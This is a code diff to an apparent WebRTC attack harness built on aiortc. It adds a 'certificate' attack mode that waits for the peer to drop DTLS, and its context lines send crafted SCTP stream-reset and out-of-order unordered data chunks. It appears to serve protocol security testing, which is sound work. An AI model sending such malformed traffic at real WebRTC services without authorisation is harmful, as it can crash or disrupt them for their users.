@@ -162,6 +162,13 @@ class Attack:
         parameter = aiortc_sctp.StreamResetOutgoingParam(request, secrets.randbits(32), last, streams)
         await sctp._send_reconfig_param(parameter)
 
+    async def until_refused(self, peer):
+        """Until the other side has ended DTLS, or ten seconds have passed."""
+        for _ in range(100):
+            if peer.sctp and peer.sctp.transport.state in ("closed", "failed"):
+                return
+            await asyncio.sleep(0.1)
+
     async def unordered(self, sctp, number):
         """A message of stream 0 so many after the next one, which is never sent."""
         chunk = aiortc_sctp.DataChunk(flags=aiortc_sctp.SCTP_DATA_UNORDERED | aiortc_sctp.SCTP_DATA_FIRST_FRAG | aiortc_sctp.SCTP_DATA_LAST_FRAG)
@@ -202,7 +209,10 @@ class Viewer(aiortc_viewer.Call):
     async def run(self):
         peer = new_peer()
         joining = asyncio.ensure_future(self.join(peer))
-        await asyncio.wait([joining], timeout=self.options.seconds + 10)
+        if self.options.attack == "certificate":
+            await self.attack.until_refused(peer)
+        else:
+            await asyncio.wait([joining], timeout=self.options.seconds + 10)
         if joining.done() and not joining.exception():
             telling = asyncio.ensure_future(self.keep_telling())
             await self.attack.on(peer)
@@ -229,7 +239,9 @@ class Sender(aiortc_sender.Sender):
             asyncio.ensure_future(self.attack_viewer(self.viewers[name]))
 
     async def attack_viewer(self, viewer):
-        if self.options.attack not in ("early", "certificate"):
+        if self.options.attack == "certificate":
+            await self.attack.until_refused(viewer.peer)
+        elif self.options.attack != "early":
             while viewer.session is None:
                 await asyncio.sleep(0.05)
         await self.attack.on(viewer.peer)
